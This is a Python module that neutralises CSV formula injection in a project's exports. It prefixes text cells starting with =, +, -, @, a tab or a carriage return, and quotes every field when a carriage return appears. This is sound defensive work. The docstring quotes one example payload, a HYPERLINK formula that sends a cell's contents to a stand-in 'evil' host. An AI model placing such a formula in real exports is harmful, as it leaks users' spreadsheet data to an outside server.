"""CSV cells a spreadsheet will not run: every CSV the project writes goes through here.

A lead id or channel such as `=HYPERLINK("http://evil/?"&A1,"click")` came from a web form into
the exports and was written verbatim into handoff.csv (a CRM import) and the dashboard's
downloads; opened in a spreadsheet, it is a formula. The OWASP rule for CSV injection: a text
cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which
spreadsheets show as text and do not evaluate. A text cell that is a plain number (`-3.5`,
`+12`) is left as it is: it is data, and prefixing it would turn every negative figure into
text. Numbers that are numbers (not text) are never touched.

A carriage return inside a text cell is a second trap: with `\n` line ends Python's CSV writer
(and so pandas) leaves such a cell unquoted, and readers take the CR for the end of the row. A
table holding one is written with every field quoted (valid CSV that every reader parses).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"


def safe_cell(value: Any) -> Any:
    """The value, with a text cell that a spreadsheet would evaluate made inert."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    try:
        float(value)
    except ValueError:
        return PREFIX + value
    return value if value.strip() == value else PREFIX + value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell made inert (the header too)."""
    out = frame.rename(columns=lambda c: safe_cell(c) if isinstance(c, str) else c)
    for name in out.columns:
        column = out[name]
        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            out[name] = column.map(safe_cell, na_action="ignore")
    return out


def _has_carriage_return(values: Iterable[Any]) -> bool:
    return any(isinstance(v, str) and "\r" in v for v in values)


def _quoting(frame: pd.DataFrame) -> int:
    values = [*frame.columns]
    for name in frame.columns:
        if frame[name].dtype == object or pd.api.types.is_string_dtype(frame[name].dtype):
            values += frame[name].dropna().tolist()
    return csv.QUOTE_ALL if _has_carriage_return(values) else csv.QUOTE_MINIMAL


def frame_csv(frame: pd.DataFrame, **to_csv: Any) -> str:
    """`frame.to_csv` as text (index off, `\\n` lines unless given), cells made inert."""
    safe = safe_frame(frame)
    options = {"index": False, "lineterminator": "\n", "quoting": _quoting(safe), **to_csv}
    buffer = io.StringIO()
    safe.to_csv(buffer, **options)
    return buffer.getvalue()


def write_frame_csv(frame: pd.DataFrame, path: Path, **to_csv: Any) -> Path:
    """Write `frame` as a CSV file at `path`, cells made inert."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    safe = safe_frame(frame)
    safe.to_csv(path, **{"index": False, "quoting": _quoting(safe), **to_csv})
    return path


def rows_csv(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """A header and rows (the dashboard's formatted tables) as CSV text, cells made inert."""
    safe_header = [safe_cell(v) for v in header]
    safe_rows = [[safe_cell(v) for v in row] for row in rows]
    quoting = (
        csv.QUOTE_ALL
        if _has_carriage_return([*safe_header, *(v for row in safe_rows for v in row)])
        else csv.QUOTE_MINIMAL
    )
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=quoting)
    writer.writerow(safe_header)
    writer.writerows(safe_rows)
    return out.getvalue()
